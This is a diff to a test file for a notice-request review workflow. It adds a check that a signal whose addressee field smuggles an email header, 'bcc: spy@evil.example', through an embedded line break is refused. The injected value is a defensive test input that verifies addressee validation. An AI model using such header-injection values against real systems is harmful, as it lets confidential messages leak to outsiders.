@@ -432,9 +432,15 @@ async def _run_paths(env: WorkflowEnvironment, queue: str) -> None:
     await env.sleep(timedelta(days=15))
     await _closed(client, notice_workflow_id(held_notice))
 
-    # denied: a clean request the legal assessment finds non-compliant, denied by another lawyer
+    # denied: a clean request the legal assessment finds non-compliant, denied by another lawyer; before
+    # that, a question sent as a signal to an addressee that is no country code is refused (addressee-checked)
     denied = (await fr.submit(_example("red-notice-fraud.json", "denied"))).request_id
     await _until(ana, denied, ReviewStage.LEGAL_ASSESSMENT)
+    await client.get_workflow_handle_for(NoticeRequestWorkflow.run, workflow_id_for(denied)).signal(
+        NoticeRequestWorkflow.info_requested,
+        InfoRequested(reviewer_id="legal.ana", question="Still wanted?", to_ncb="fr\r\nbcc: spy@evil.example"),
+    )
+    await _case_until(ana, denied, lambda s: len(s.rejected) == 1, "the refused addressee")
     await ana.assess(denied, Verdict.NON_COMPLIANT, "Art. 83: the minimum penalty threshold is not met")
     await eli.decide(denied, DecisionOutcome.DENY, "The penalty threshold of Art. 83 is not met.")
     await _until(ana, denied, ReviewStage.DENIED)
